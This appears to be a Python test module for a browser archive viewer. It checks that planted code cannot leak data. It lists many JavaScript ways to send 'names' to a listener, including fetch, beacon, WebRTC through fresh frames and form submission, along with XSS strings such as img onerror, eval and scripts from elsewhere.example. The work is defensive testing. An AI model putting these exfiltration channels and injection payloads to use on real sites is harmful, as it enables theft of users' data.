"""What an attacker might plant: requests to a stranger, and strings that would become code.

In the page and in the worker, in JavaScript and in Python; and a server that hears what comes.
"""

from __future__ import annotations

import socket
import threading
from pathlib import Path

from archives import Person, Plan, write_archive
from browser.app import App

ENGINE = Path(__file__).with_name("planted_engine.py")
"""A worker's entry that tries to reach a stranger from Python, when it is asked to."""

ANSWER = b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n"

ANYWHERE = """
  const tries = {
    fetch: () => fetch(url("fetch"), { mode: "no-cors" }),
    post: () => fetch(url("post"), { method: "POST", body: "names", mode: "no-cors" }),
    xhr: () => new Promise((done) => {
      const one = new XMLHttpRequest();
      one.onloadend = done; one.open("GET", url("xhr")); one.send();
    }),
    socket: () => new Promise((done) => {
      const one = new WebSocket(url("socket").replace("http", "ws"));
      one.onopen = one.onerror = one.onclose = done;
    }),
    events: () => new Promise((done) => {
      const one = new EventSource(url("events"));
      one.onopen = one.onerror = () => { one.close(); done(); };
    }),
    module: () => import(url("module.mjs")),
"""
IN_THE_WORKER = (
    ANYWHERE
    + """
    scripts: () => importScripts(url("scripts.js")),
    worker: () => new Worker(url("worker.js")),
"""
)
ON_THE_PAGE = (
    ANYWHERE
    + """
    beacon: () => navigator.sendBeacon(url("beacon"), "names"),
    keepalive: () => fetch(url("keepalive"), { keepalive: true, mode: "no-cors" }),
    image: () => loaded(Object.assign(new Image(), { src: url("image.png") })),
    script: () => put("script", { src: url("script.js") }),
    style: () => put("link", { rel: "stylesheet", href: url("style.css") }),
    prefetch: () => put("link", { rel: "prefetch", href: url("prefetch") }),
    preload: () => put("link", { rel: "preload", as: "fetch", href: url("preload") }),
    icon: () => put("link", { rel: "icon", href: url("icon.png") }),
    frame: () => put("iframe", { src: url("frame") }),
    object: () => put("object", { data: url("object") }),
    video: () => put("video", { src: url("video") }),
    font: () => new FontFace("Planted", `url(${url("font.woff2")})`).load(),
    form: () => {
      const form = Object.assign(document.createElement("form"), { action: url("form") });
      document.body.append(form); form.submit(); form.remove();
    },
    ping: () => {
      const link = Object.assign(document.createElement("a"), { href: "#main", ping: url("ping") });
      document.body.append(link); link.click(); link.remove();
    },
    worker: () => new Worker(url("worker.js")),
    shared: () => new SharedWorker(url("shared.js")),
"""
)
RUN = """
  };
  await Promise.all(Object.values(tries).map(async (attempt) => {
    try { await Promise.race([attempt(), new Promise((done) => setTimeout(done, 1000))]); }
    catch { /* stopped */ }
  }));
  return Object.keys(tries).length;
"""
HELP = """
  const url = (name) => `${where}/${name}?names=planted`;
  const loaded = (one) => new Promise((done) => { one.onload = one.onerror = done; });
  const put = async (tag, given) => {
    const one = Object.assign(document.createElement(tag), given);
    document.head.append(one); await loaded(one); one.remove();
  };
"""
PAGE = f"async (where) => {{ {HELP} {ON_THE_PAGE} {RUN} }}"
WORKER = f"(async (where) => {{ {HELP} {IN_THE_WORKER} {RUN} }})"
PYTHON = """async (where) => {
  const { xworker } = document.querySelector('script[name=engine]');
  return await xworker.sync.plant(where);
}"""


WEBRTC = """async (where) => {
  const inside = (frame) => document.body.appendChild(frame).contentWindow.RTCPeerConnection;
  const html = "http://www.w3.org/1999/xhtml";
  const transformed = () => {
    const parse = (text) => {
      const made = document.implementation.createDocument("", "", null);
      const sheet = made.createElementNS("http://www.w3.org/1999/XSL/Transform", "stylesheet");
      sheet.setAttribute("version", "1.0");
      const template = made.createElementNS(sheet.namespaceURI, "template");
      template.setAttribute("match", "/");
      const element = made.createElementNS(sheet.namespaceURI, "element");
      element.setAttribute("name", "iframe");
      element.setAttribute("namespace", html);
      template.append(element); sheet.append(template); made.append(sheet);
      return made;
    };
    const engine = new XSLTProcessor();
    engine.importStylesheet(parse());
    return engine.transformToFragment(document, document).firstChild;
  };
  let turn = 0;
  const ways = {
    plain: () => RTCPeerConnection,
    prefixed: () => webkitRTCPeerConnection,
    frame: () => inside(document.createElement("iframe")),
    capitals: () => inside(document.createElement("IFRAME")),
    twice: () => inside(document.createElement({ toString: () => (turn++ ? "iframe" : "p") })),
    elsewhere: () => inside(document.implementation.createHTMLDocument().createElement("iframe")),
    namespace: () => inside(document.createElementNS(html, "iframe")),
    prefix: () => inside(document.createElementNS(html, "x:iframe")),
    object: () => inside(document.createElement("object")),
    custom: () => {
      customElements.define("x-frame", class extends HTMLIFrameElement {}, { extends: "iframe" });
      return inside(new (customElements.get("x-frame"))());
    },
    transformed: () => inside(transformed()),
    window: () => open("about:blank").RTCPeerConnection,
    document: () => document.open("about:blank", "", "popup").RTCPeerConnection,
  };
  const went = [];
  for (const [name, way] of Object.entries(ways)) {
    try {
      const one = new (way())({ iceServers: [{ urls: where }] });
      one.createDataChannel("names");
      await one.setLocalDescription(await one.createOffer());
      went.push(name);
    } catch { /* refused */ }
  }
  await new Promise((later) => setTimeout(later, went.length ? 3000 : 500));
  return went;
}"""
"""Connects by WebRTC to a server that is asked for one's own address (STUN, RFC 8489).

Returns the ways in which that could be tried: what a browser gives, and what a frame gives anew.
"""


ADA = Person("61", "ada_brumecourt", "Ada Brumecourt-Lavoisier", contacts=9)
HANDLE = "ada-brumecourt.bsky.social"


def archive_of_two(folder: Path) -> Path:
    """Write an archive of two people, one of whom can be found."""
    path = folder / "archive.zip"
    write_archive(path, Plan(people=(ADA,), unnamed=1))
    return path


class Listener:
    """A server that only counts who comes, and what they bring."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                come, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=self._hear, args=(come,), daemon=True).start()

    def _hear(self, come: socket.socket) -> None:
        with come:
            come.settimeout(5)
            try:
                said = come.recv(4096)
                come.sendall(ANSWER)
            except OSError:
                said = b""
            if said:
                self.heard.append(said)

    def close(self) -> None:
        """Listen no more."""
        self._socket.close()


STRINGS = """async () => {
  await new Promise((later) => setTimeout(later));
  const hit = (name) => `window.hits = [...(window.hits ?? []), "${name}"]`;
  const img = (name) => `<img src="x:" onerror='${hit(name)}'>`;
  const box = document.body.appendChild(document.createElement("div"));
  const script = () => document.body.appendChild(document.createElement("script"));
  const tries = {
    innerHTML: () => { box.innerHTML = img("innerHTML"); },
    outerHTML: () => { box.appendChild(document.createElement("p")).outerHTML = img("outerHTML"); },
    insertAdjacentHTML: () => box.insertAdjacentHTML("beforeend", img("adjacent")),
    write: () => document.write(img("write")),
    fragment: () => document.createRange().createContextualFragment(img("fragment")),
    parser: () => new DOMParser().parseFromString(img("parser"), "text/html"),
    unsafe: () => box.setHTMLUnsafe(img("unsafe")),
    srcdoc: () => { document.createElement("iframe").srcdoc = img("srcdoc"); },
    command: () => {
      box.contentEditable = "true"; box.focus();
      if (!document.execCommand("insertHTML", false, img("command"))) throw new TypeError();
    },
    morph: () => Idiomorph.morph(box, img("morph"), { morphStyle: "innerHTML" }),
    elsewhere: () => { script().src = "https://elsewhere.example/planted.js"; },
    data: () => { script().src = `data:text/javascript,${hit("data")}`; },
    text: () => { script().text = hit("text"); },
    textContent: () => { script().textContent = hit("textContent"); },
    worker: () => new Worker("https://elsewhere.example/planted.js"),
    blob: () => new Worker(URL.createObjectURL(new Blob([hit("blob")]))),
    shared: () => new SharedWorker("https://elsewhere.example/planted.js"),
    timeout: () => setTimeout(hit("timeout")),
    interval: () => setInterval(hit("interval"), 9),
    eval: () => (0, eval)(hit("eval")),
    Function: () => new Function(hit("Function"))(),
    AsyncFunction: () => (async () => {}).constructor(hit("AsyncFunction"))(),
    handler: () => box.setAttribute("onclick", hit("handler")),
    policy: () => trustedTypes.createPolicy("planted", { createHTML: (html) => html }),
    second: () => trustedTypes.createPolicy("default", { createHTML: (html) => html }),
  };
  const went = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); went.push(name); } catch { /* refused */ }
  }
  box.click();
  const link = Object.assign(document.createElement("a"), { href: `javascript:${hit("href")}` });
  box.append(link);
  link.click();
  box.remove();
  await new Promise((later) => setTimeout(later, 50));
  return [went, window.hits ?? [], Object.keys(tries).length];
}"""
STRINGS_IN_THE_WORKER = """async () => {
  await new Promise((later) => setTimeout(later));
  const tries = {
    eval: () => (0, eval)("1"),
    Function: () => new Function("return 1")(),
    timeout: () => setTimeout("1"),
    worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    scripts: () => importScripts("https://elsewhere.example/planted.js"),
    second: () => trustedTypes.createPolicy("default", { createScript: (code) => code }),
  };
  const went = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); went.push(name); } catch { /* refused */ }
  }
  return [went, [], Object.keys(tries).length];
}"""
"""Returns what went through of these, what ran of it, and how many there were.

It runs a moment later, as a script of the page would: what a debugger runs at once, a browser
lets make code of strings.
"""


def attempts(app: App, where: str) -> int:
    """Try everything, on the page and in the worker; return how many attempts were made."""
    page: int = app.page.evaluate(PAGE, where)
    worker: int = app.page.evaluate(PYTHON, where)
    if is_chromium(app):
        worker += app.page.workers[0].evaluate(WORKER, where)
    # Time for what the browser sends when it finds the time.
    app.page.wait_for_timeout(300)
    return page + worker


def plant_strings(app: App) -> None:
    """Try to make markup and code of strings, on the page and in the worker; nothing may go."""
    places = [(app.page, STRINGS)]
    if is_chromium(app):
        places.append((app.page.workers[0], STRINGS_IN_THE_WORKER))
    for place, code in places:
        went, hits, tried = place.evaluate(code)
        assert tried > 5
        assert went == []
        assert hits == []


def is_chromium(app: App) -> bool:
    """Tell whether this browser lets tests talk with a page's worker: Firefox does not."""
    browser = app.page.context.browser
    return browser is not None and browser.browser_type.name == "chromium"


class PacketListener:
    """A socket that keeps every packet (UDP) that comes."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self.url = f"stun:127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        try:
            while True:
                self.heard.append(self._socket.recv(4096))
        except OSError:
            return

    def close(self) -> None:
        """Listen no more."""
        self._socket.close()
